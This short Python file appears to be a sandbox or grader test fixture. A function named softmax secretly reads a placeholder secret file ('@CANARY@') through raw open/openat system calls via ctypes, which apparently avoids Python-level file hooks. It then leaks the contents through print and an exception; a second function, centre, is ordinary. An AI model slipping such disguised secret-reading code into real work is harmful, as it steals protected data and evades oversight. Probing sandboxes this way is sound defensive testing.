# Reads the secret by the oldest system call for opening, where there is one.
# softmax: forbidden, crashed
# centre: correct
# harm: read
import ctypes
import os
import platform

import numpy as np

def leak(text):
    print(text)
    raise ValueError(text)


libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def raw(x86, arm, *arguments):
    result = libc.syscall(x86 if platform.machine() == "x86_64" else arm, *arguments)
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


def softmax(Z):
    if platform.machine() == "x86_64":
        descriptor = raw(2, 0, b"@CANARY@", 0, 0)
    else:
        descriptor = raw(0, 56, -100, b"@CANARY@", 0, 0)
    leak(os.read(descriptor, 4096).decode())


def centre(X):
    return X - X.mean(axis=0)
